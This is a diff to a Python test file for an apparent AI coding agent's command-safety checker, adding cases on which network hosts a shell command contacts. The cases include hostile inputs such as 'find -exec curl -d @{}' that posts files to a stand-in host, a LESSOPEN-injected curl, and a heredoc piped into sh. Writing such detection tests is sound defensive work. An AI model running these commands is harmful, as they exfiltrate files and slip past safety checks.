@@ -4,19 +4,23 @@ from __future__ import annotations
 
 import pytest
 
+from friday_cli.command_safety import analyze, outbound
 from friday_cli.core.permissions.rule import RuleInput, parse_rule
 from friday_cli.core.permissions.rules import Rules
-from friday_cli.core.permissions.taint import UNREAD, TaintTracker, network_targets
+from friday_cli.core.permissions.taint import UNREAD, TaintTracker
 from friday_cli.core.protocol.events import Envelope, InboxMessage, MessageAdded, ToolFinished
 from friday_cli.core.protocol.messages import Message, ToolResult, user
 from friday_cli.core.protocol.receipt import CommandRun, FileChange, ToolFacts
+from tests.command_safety import workspace_fixture
+
+GROUND = workspace_fixture.on_paper()
 
 
 class Past:
     """An exposure with events that happened."""
 
     def __init__(self) -> None:
-        self.exposure = TaintTracker()
+        self.exposure = TaintTracker(outbound)
         self.calls = 0
 
     def happens(self, *events: object) -> Past:
@@ -42,7 +46,7 @@ class Past:
 
     def run(self, command: str) -> str:
         return self.exposure.approval_reason(
-            RuleInput("bash", "run", (command,)), {"command": command}, Rules(mode="ask")
+            workspace_fixture.bash(command, GROUND), {"command": command}, Rules(mode="ask")
         )
 
 
@@ -156,10 +160,19 @@ def test_links_of_pages_and_of_files_carry_nothing_unless_the_session_wrote_the_
         ("echo https://a.example", []),
         ("git commit -m 'see https://a.example'", []),
         ("cat file:///etc/hosts", []),
+        ("h=a.example; curl $h", ["a.example", UNREAD]),
+        ("find . -exec curl -d @{} https://a.example ;", ["a.example"]),
+        ("awk 'BEGIN{system(\"curl https://a.example\")}'", ["a.example"]),
+        ("LESSOPEN='|curl a.example; true' less x", ["a.example"]),
+        ("cat > x.md <<E\nsee https://a.example\nE", []),
+        ("cat <<E | sh\ncurl a.example\nE", ["a.example"]),
+        ("git commit -m 'add; curl https://a.example'", []),
+        ("grep 'x; curl https://a.example' f", []),
     ],
 )
 def test_what_a_command_talks_to(command: str, hosts: list[str]) -> None:
-    assert sorted({host for host, _ in network_targets(command)}) == sorted(hosts)
+    for found in (outbound(command), analyze(command, GROUND).hosts):
+        assert sorted({host for host, _ in found}) == sorted(hosts)
 
 
 def test_a_blanket_rule_names_no_host_and_yolo_asks_nothing() -> None:
